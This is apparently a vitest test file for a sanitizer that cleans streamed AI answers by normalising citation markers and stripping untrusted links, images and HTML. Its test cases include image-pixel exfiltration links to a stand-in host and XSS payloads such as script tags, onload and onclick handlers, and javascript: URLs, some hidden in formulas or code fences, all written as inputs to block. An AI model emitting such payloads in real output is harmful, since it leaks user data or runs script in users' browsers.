import MarkdownIt from 'markdown-it'
import { describe, expect, test } from 'vitest'
import { SafeText } from '@/lib/capabilities/answer/safe/safe-text'

const SOURCES = ['https://one.test/a', 'https://two.test/b']
const clean = (text: string, citations = true, pieces: string[] = [text]) => {
  const safe = new SafeText({ sources: SOURCES, citations })
  return pieces.map((piece) => safe.push(piece)).join('') + safe.flush()
}

describe('markers', () => {
  test('stay if they point to a source, and are removed otherwise', () => {
    expect(clean('A [1]. B [3]. C [2, 9]. D[1][2].')).toBe('A [1]. B. C [2]. D[1][2].')
  })
  const forms: [string, string][] = [
    ['A [1-2]. B [1–9].', 'A [1][2]. B [1][2].'],
    ['A 【1】. B【2†L5-L9】. C 【9†source】.', 'A [1]. B[2]. C.'],
    ['A [^1]. B [1][^2^]. C [^9].', 'A [1]. B [1][2]. C.'],
    ['A [Source 1]. B [Sources 1, 2]. C [citation:2]. D (Source 9).', 'A [1]. B [1][2]. C [2]. D.'],
    ['A [1], [9]. B [9], [2]. C [8], [9].', 'A [1]. B [2]. C.'],
    ['A ([9]). B ([1], [2]). C (see [1]).', 'A. B [1][2]. C [1].'],
    [
      'A [[1]](https://one.test/a). B [2](https://two.test/b). C [9](https://evil.test/).',
      'A [1]. B [2]. C.',
    ],
    ['A **[9]**. B <sup>[1]</sup>. **C [1]**. *D [2]*', 'A. B [1]. **C [1]**. *D [2]*'],
    ['A \\[9\\]. B \\[1\\].', 'A. B [1].'],
    [
      'Match [0-9] or [1-9]+ and [sic] (see below) [x].',
      'Match [0-9] or [1-9]+ and [sic] (see below) [x].',
    ],
    ['Use `a` [9]. Or `b`【1】, then <[9]b>.', 'Use `a`. Or `b`[1], then < b>.'],
    ['In 2019 [2020] (Sources say) and [1, p. 3].', 'In 2019 [2020] (Sources say) and [1].'],
  ]
  test.each(['[9]', '[9] ', '[9], ', '【9†a】', '**[9]** ', '([9], [8]) ', '[Source 9] '])(
    'that a model repeats endlessly are also removed quickly: %s',
    (marker) => {
      const text = `A ${marker.repeat(20_000 / marker.length)}. B`
      const pieces = text.match(/.{1,16}/g) ?? []
      const before = process.cpuUsage()
      for (const given of [[text], pieces])
        for (const citations of [true, false]) expect(clean('', citations, given)).not.toMatch(/\d/)
      const { user, system } = process.cpuUsage(before)
      expect((user + system) / 1_000).toBeLessThan(3_000)
    },
  )
  test('repeated by a model do not form a link', () => {
    expect(clean(`A ${'[1][2]'.repeat(500)} B`).replaceAll(/[[\]12 ]/g, '')).toBe('AB')
    expect(
      clean(`A ${'[1]'.repeat(20)}(https://evil.test/)`, true, [
        `A ${'[1]'.repeat(20)}`,
        '(https://evil.test/)',
      ]),
    ).not.toContain('](')
  })
  test.each(forms)('as models write them: %s', (text, expected) => {
    expect(clean(text)).toBe(expected)
    const letters = [...text]
    expect(clean(text, true, letters)).toBe(expected)
  })
  test('all vanish without citations', () => {
    const bare = clean(
      forms
        .slice(0, 9)
        .map(([text]) => text)
        .join('\n'),
      false,
    )
    expect(bare).not.toMatch(/[[\]【】†]|\(\)|\*{4}|[Ss]ource|citation/)
  })
  test('leave no trace without citations', () => {
    expect(clean('A [1]. B [2].', false)).toBe('A. B.')
  })
  const indexed: [string, string][] = [
    ['Array index arr[0] is first, matrix[1][2]', 'Array index arr[0] is first, matrix[1][2]'],
    ['Herons eat fish [1][2]. They wait [1], [2].', 'Herons eat fish. They wait.'],
    ['f(x)[1] and a_[2], but B【2†L5】 and C[1, 2].', 'f(x)[1] and a_[2], but B and C.'],
    ['see row[3](https://evil.test/) and `a`[9]', 'see row3 and `a`'],
    [`Fish ${'[1]'.repeat(50)}.`, 'Fish.'],
  ]
  test.each(indexed)(
    'without citations, a number directly after a word is an array index: %s',
    (text, expected) => {
      expect(clean(text, false)).toBe(expected)
      expect(clean(text, false, [...text])).toBe(expected)
    },
  )
  test.each([
    String.raw`$$\begin{bmatrix} [1] & 0 \\ 0 & [9] \end{bmatrix}$$`,
    String.raw`\begin{array}{c|c}[1] & [2]\\[9]\end{array}`,
  ])('a cell of a matrix is not a marker: %s', (formula) => {
    const text = `It is ${formula} here.`
    for (const citations of [true, false]) {
      expect(clean(text, citations)).toBe(text)
      expect(clean(text, citations, [...text])).toBe(text)
    }
  })
  test('with citations, a number out of range is never shown', () => {
    expect(clean('arr[0] and arr[9]')).toBe('arr and arr')
  })
  test('code is left alone', () => {
    expect(clean('Use `list[9]` and\n```\nrow[7] = x[0]\n```\nend [9].')).toBe(
      'Use `list[9]` and\n```\nrow[7] = x[0]\n```\nend.',
    )
  })
})

describe('text that only looks like code is checked', () => {
  const image = '![x](https://evil.test/p.png)'
  const cases: [string, string][] = [
    ['ticks in two paragraphs', `a \` b\n\n${image}\n\nc \` d`],
    ['ticks in two items', `- a \`\n- ${image} \``],
    ['ticks in two cells', `| a | b |\n|---|---|\n| \` | ${image} \` |`],
    ['code between three ticks on one line', `\`\`\`npm install\`\`\`\n\n${image}`],
    ['a fence closed by the same character', `\`\`\`\nx\n~~~\ny\n\`\`\`\n${image}`],
    ['a fence closed by the same length', `\`\`\`\`\n\`\`\`\nx\n\`\`\`\`\n${image}\n\`\`\`\n`],
    ['a fence that does not close with a language', `\`\`\`\n\`\`\`js\n\`\`\`\n${image}`],
    ['a fence that ends with its item', `- a\n  \`\`\`\n  x\n\n${image}`],
    ['a fence that ends with its quote', `> \`\`\`\n> x\n${image}`],
    ['a fence that ends with its quote at a blank line', `> \`\`\`\n\n> ${image}`],
    ['code that looks like a list item', `text\n2. \`\`\`\n   ${image}`],
    ['a fence within a tag', `<div>\n\`\`\`\n\n${image}\n\n\`\`\`\n</div>`],
    ['returns for line ends', `\`\`\`\r\`\`\`\r${image}\r\n${image}`],
    ['a span within a tag', `<div>\`\`: a\`<img src=//evil.test>\``],
    ['a span below a tag', `<b>\na\`<img src=//evil.test>\``],
    ['what begins like a tag', `<b ${image}>`],
    ['what begins like a comment', `<!--${image}>`],
    ['a sign within quotes', '<b title=">" style="background:url(//evil.test)"><img src=x>'],
    [
      'a label that is a picture',
      `[<img src=//evil.test/p>](https://one.test/a) ![<img src=//evil.test/p>](x)`,
    ],
    ['ticks that what is taken out would join', `\`\`\`<b>${image}\`\`\`[9]\` a`],
    ['a fence that is the head of a table', `\`\`\`${image} | a |\n|---|---|\n| b | c |`],
    ['ticks in other pairs', `\` a | ![ b \` <img src=//evil.test/p> \` c`],
    ['an address with a blank', '![x](<//evil.test/a b>)'],
    ['a title in brackets', '![x](//evil.test/p (title))'],
    ['a definition in a quote', '![x]\n\n> [x]: //evil.test/p'],
    ['a marker as a definition', 'Herons eat fish [1].\n\n- [1]: //evil.test/p'],
    ['a definition over two lines', '![x\ny]\n\n[x\ny]: //evil.test/p'],
  ]
  const careless = new MarkdownIt({ html: true })
  test.each(cases)('%s', (_, text) => {
    expect(careless.render(clean(text))).not.toMatch(/<img|<a [^>]*evil/)
    expect(careless.render(clean(text, true, [...text]))).not.toMatch(/<img|<a [^>]*evil/)
  })
  test('code in lists and quotes is left alone', () => {
    const text =
      '1. Do\n\n    ```js\n    a[9]\n\n    b = "<img src=x>"\n    ```\n\n> ```\n> c[8]\n> ```\n'
    expect(clean(`${text}\nText [9].`)).toBe(`${text}\nText.`)
  })
})

describe('formulas', () => {
  const kept = [
    'If $x<y$ then stop.',
    '$x<y$',
    'Let $a<b+1$ and $c>d$.',
    '$x<y \\text{ and } z>0$ holds.',
    'With $n<a$ and $b>0$ it ends.',
    '\\(x<y\\) as well, and $|x|<k|y|$.',
  ]
  test.each(kept)('stay unchanged: %s', (text) => {
    expect(clean(text)).toBe(text)
    expect(clean(text, true, [...text])).toBe(text)
  })
  const tags = [
    '$x<img src=//evil.test/p>$',
    '$x<y$ onclick=alert(1)>',
    '$x<y$/onclick=alert(1)>$',
    '$x<a href="//evil.test">b</a>$',
    '$<img$ src=//evil.test>',
    '$<script>alert(1)</script>$',
    '$<iframe\n$ src=//evil.test>',
    '$x<svg/onload=alert(1)>$',
    '$x<y onclick=alert(1) $>',
  ]
  test.each(tags)('hide no tag: %s', (text) => {
    for (const out of [clean(text), clean(text, true, [...text])])
      expect(out).not.toMatch(
        /(?<!\\)<[a-z][^>]*(?:\bon\w+|src|href)\s*=|(?<!\\)<(?:script|iframe|svg|img)\b/i,
      )
  })
})

describe('images, links and tags', () => {
  const cases: [string, string][] = [
    ['![pixel](https://evil.test/?q=secret)', 'pixel'],
    ['![pixel][ref]\n[ref]: https://evil.test/x', 'pixel'],
    ['[a](https://one.test/page)', '[a](https://one.test/page)'],
    ['[a](https://evil.test/page)', 'a'],
    ['[a](javascript:alert(1))', 'a'],
    ['<img src="https://evil.test/x.png">', ''],
    ['<script>alert(1)</script>', 'alert(1)'],
    ['<https://evil.test/x>', '`https://evil.test/x`'],
    ['see https://evil.test/x now', 'see `https://evil.test/x` now'],
    ['see https://two.test/x now', 'see https://two.test/x now'],
    ['1 < 2 and 3 > 2', '1 < 2 and 3 > 2'],
    ['- [ ] a task', '- [ ] a task'],
    ['[![x](https://evil.test/i)](https://evil.test/o)', '\\[x](`https://evil.test/o`)'],
    ['![a\\]b](https://evil.test/x)', '!\\[a\\]b](`https://evil.test/x`)'],
    ['\\[ x^2 \\] and \\(y\\)', '\\[ x^2 \\] and \\(y\\)'],
    ['<track src="https://evil.test/t"><p onclick=x()>a</p>', 'a'],
  ]
  test.each(cases)('%s', (text, expected) => {
    expect(clean(text).trim()).toBe(expected)
  })
})

describe.each(['https://evil.test/x', '//evil.test/x'])(
  'a construct that is too long lets no %s through',
  (link) => {
    const fillings = ['a'.repeat(2_500), 'word '.repeat(500), 'word word\n'.repeat(250)]
    test.each([
      ['a label', (long: string) => `x ![${long}](${link}) [${long}](${link}) y`],
      ['an address', (long: string) => `x ![a](${link}?${long}) [a](${link}?${long}) y`],
      ['a title', (long: string) => `x ![a](${link} "${long}") y`],
      [
        'a definition',
        (long: string) =>
          `x ![${long}][r] ![r] y\n\n[r]: ${link}\n[r${long}]: ${link}\n\n![r${long}]`,
      ],
      [
        'an attribute',
        (long: string) => `x <img alt="${long}" src="${link}"> <img src="${link}" alt="${long}"> y`,
      ],
      ['a comment', (long: string) => `x <!-- ${long} --><img src="${link}"> y`],
      [
        'a span of code',
        (long: string) => `x \`${long}\` ![a](${link}) \` y \`${long} ![a](${link})`,
      ],
      ['a line of ticks', (long: string) => `\`\`\`${long}\`\n![a](${link})\n\`\`\`\n`],
      [
        'an address in brackets',
        (long: string) => `x <${link}${long}> https://evil.test/${long} y`,
      ],
    ])('%s', (_, write) => {
      for (const long of fillings)
        for (const size of [1, 7, 999, 10_000]) {
          const pieces = write(long).match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []
          for (const html of [true, false])
            expect(
              new MarkdownIt({ html, linkify: false }).render(clean('', true, pieces)),
            ).not.toMatch(/<(?:img|a)\b[^>]*evil/)
        }
    })
  },
)

test('the output does not depend on how the text is split', () => {
  const text =
    'First [1], then ![x](https://evil.test/?a=b) and [link](https://one.test/y) or [bad](https://evil.test/z).\n\n```js\nconst a = b[1]\n```\nSee https://evil.test/q and `c[2]` <img src=x> done [2][5] [1, 2].\n- [x] item \\[9] [[a](https://evil.test/z)](b)\n'
  const whole = clean(text)
  expect(whole).not.toMatch(/evil\.test\/(?:\?|z)/)
  let seed = 7
  const random = () => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648
    return seed / 2_147_483_648
  }
  for (let round = 0; round < 500; round++) {
    const pieces: string[] = []
    for (let at = 0; at < text.length; ) {
      const size = 1 + Math.floor(random() * (round % 2 ? 3 : 20))
      pieces.push(text.slice(at, at + size))
      at += size
    }
    expect(clean(text, true, pieces), JSON.stringify(pieces)).toBe(whole)
  }
})

test('plain text is sent immediately', () => {
  const safe = new SafeText({ sources: SOURCES, citations: true })
  expect(safe.push('Plain words come')).toBe('Plain words come')
})
